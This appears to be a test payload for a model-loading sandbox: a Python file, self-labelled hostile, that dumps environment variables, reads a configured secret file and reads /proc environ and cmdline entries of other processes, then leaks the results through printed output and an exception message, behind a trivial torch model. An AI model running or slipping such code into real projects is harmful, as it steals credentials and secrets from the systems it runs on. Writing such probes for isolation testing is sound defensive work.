# Hostile: read the secret file, dump os.environ, read the parents' /proc environ.
import os
import torch

TARGETS = {}

leak = [repr(dict(os.environ))]
for path in (TARGETS["secret_file"], f"/proc/{os.getppid()}/environ", "/proc/1/environ",
             f"/proc/{TARGETS['worker_pid']}/environ", f"/proc/{TARGETS['worker_pid']}/cmdline"):
    try:
        with open(path, "rb") as handle:
            leak.append(handle.read().decode(errors="replace"))
    except OSError as exc:
        leak.append(f"{path}: {exc.errno}")
print("\n".join(leak))


class Model(torch.nn.Module):
    def forward(self, x):
        return x * 2


model = Model()
example_args = (torch.ones(2),)
raise RuntimeError("LEAK " + " | ".join(leak))
